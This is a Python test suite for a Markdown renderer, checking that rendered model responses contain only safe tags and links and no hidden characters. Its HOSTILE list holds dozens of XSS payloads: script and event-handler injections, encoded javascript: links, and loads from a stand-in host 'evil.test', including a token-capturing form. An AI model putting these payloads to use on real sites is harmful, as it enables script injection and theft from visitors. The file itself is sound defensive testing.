"""Whatever a response says, what comes of it can neither run nor load nor hide anything."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from adapters.markup import render
from elicit.safe_text import harmless

TAGS = {
    *("p", "br", "hr", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre", "code", "em", "strong", "s"),
    *("a", "table", "thead", "tbody", "tr", "th", "td"),
}

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<base href=//evil.test/>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=//evil.test/x.swf></object>",
    "<embed src=//evil.test/x.swf>",
    "<form action=//evil.test><input name=token><button>Vote</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=javascript:alert(1)>x</a>",
    "<dialog open id=status>x</dialog>",
    "</div></main><main id=vote>x",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<plaintext>",
    "<textarea></textarea><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;&#97;&#118;&#97;script:alert(1))",
    "[x](&#x6A&#x61;vascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.test)",
    "[x](/v1/studies)",
    "[x](blob:https://evil.test/1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '[x](https://ok.test/"onmouseover="alert(1))',
    '[x](https://ok.test "title\' onmouseover=alert(1)")',
    "![x](https://evil.test/pixel.gif)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://evil.test/x.png)',
    "![x][1]\n\n[1]: https://evil.test/x.png",
    "[x]: javascript:alert(1)\n\n[x]",
    "``` <script>alert(1)</script>\nx\n```",
    '```"onclick=alert(1)\n<script>alert(1)</script>',
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "|a|\n|:-:|\n|<td style=x>|",
    "a\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "right \u202eot left",
    "right &#x202E;ot left",
    "zero\u200bwidth &#8203; &zwnj; &ZeroWidthSpace;",
    "tag \U000e0041\U000e0042 characters",
    "lone \ud800 surrogate",
    "\ufffe\uffff\x1b[2J\x9b",
    "# a\n\n###### b\n\n# c",
]


class Reader(HTMLParser):
    """What a page would be made of."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    handle_decl = unknown_decl = handle_pi = handle_comment


def check(html: str) -> Reader:
    """Only tags and attributes that can do no harm, and no character that hides or turns text."""
    read = Reader(html)
    for tag, attributes in read.tags:
        assert tag in TAGS
        if tag == "a":
            assert set(attributes) <= {"href", "rel", "target"}
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes["target"] == "_blank"
            assert (attributes["href"] or "").startswith(("http://", "https://"))
        elif tag == "ol":
            assert set(attributes) <= {"start"}
        elif tag in ("th", "td"):
            assert set(attributes) <= {"align"}
        else:
            assert not attributes
    assert harmless(html) == html
    assert harmless(read.text) == read.text
    return read


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_texts_become_harmless(text: str) -> None:
    check(render(text))
    check(render(f"# A\n\n> - {text}\n\n{text}\n"))


@pytest.mark.parametrize("text", [text for text in HOSTILE if text.startswith("<") and "://" not in text])
def test_tags_stay_readable(text: str) -> None:
    """A reader sees what the response says, tags included."""
    assert "".join(text.split()) in "".join(Reader(render(text)).text.split())


PIECES = st.sampled_from(
    [*HOSTILE, "\n", "\n\n", " ", "\t", "*", "**", "_", "~~", "`", "```", "|", "-", ">", "#", "[", "](", ")", "!", "<"]
)


@given(st.lists(PIECES | st.text(max_size=20), max_size=30).map("".join))
@example("[" * 5000)
@settings(max_examples=300, deadline=None)
def test_no_text_gets_through_or_raises(text: str) -> None:
    check(render(text))


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=200))
def test_no_word_is_lost(text: str) -> None:
    """Every letter and digit that is written can be read."""
    shown = Reader(render(text)).text
    kept = [sign for sign in harmless(text) if sign.isalpha()]
    left = iter(shown)
    # A language named after a fence and what stands in character references are Markdown's to use.
    if "```" not in text and "~~~" not in text and "&" not in text and "](" not in text:
        assert all(sign in left for sign in kept)


LONG = {
    "one line of a megabyte": "a" * 1_000_000,
    "a megabyte of tags": "<b>" * 333_333,
    "brackets": "[" * 20_000,
    "pictures": "![" * 10_000,
    "links in links": "[[a](https://b.test)" * 1_000,
    "emphasis": "*a **b " * 2_800,
    "nested emphasis": "**a " * 2_500 + "b** " * 2_500,
    "backticks": " ".join("`" * n for n in range(1, 199)),
    "quotes": "> " * 10_000,
    "lists": "- " * 10_000,
    "a deep list": "\n".join("  " * n + "- x" for n in range(130)),
    "a wide table": "|".join("a" * 100) + "\n" + "|".join("-" * 100) + "\n" + "a\n" * 9_500,
    "references": "&#x202E;" * 2_500,
    "an unclosed fence": "```\n" + "x\n" * 9_000,
}


@pytest.mark.parametrize("text", LONG.values(), ids=LONG)
def test_extreme_texts_come_through(text: str) -> None:
    check(render.__wrapped__(text))


def test_markdown_reads_as_meant() -> None:
    html = render("## Plan\n\n1. *one*\n2. **two** `x<y`\n\nfirst\nsecond ~~gone~~ [site](https://a.test/?b=1&c=2)\n")
    assert "<h3>Plan</h3>" in html
    assert "<em>one</em>" in html
    assert "<code>x&lt;y</code>" in html
    assert "first<br>\nsecond <s>gone</s>" in html
    assert 'href="https://a.test/?b=1&amp;c=2"' in html
    assert '<td align="right">2</td>' in render("|a|\n|-:|\n|2|")
    assert "<pre><code>x\n</code></pre>" in render("```python\nx\n```")
    assert render("![chart](https://a.test/x.png)") == "<p>![chart](https://a.test/x.png)</p>\n"
    assert render("") == ""


@given(st.lists(st.integers(1, 6), max_size=12))
def test_headings_start_below_the_pages_and_skip_no_level(levels: list[int]) -> None:
    found = [int(tag[1]) for tag, _ in Reader(render("\n\n".join("#" * level + " x" for level in levels))).tags]
    assert len(found) == len(levels)
    assert all(later <= earlier + 1 for earlier, later in zip([2, *found], found, strict=False))


def test_long_texts_are_shown_as_written() -> None:
    text = "# *a* <b>\n" * 3_000
    read = check(render(text))
    assert read.tags == [("pre", {})]
    assert read.text == text
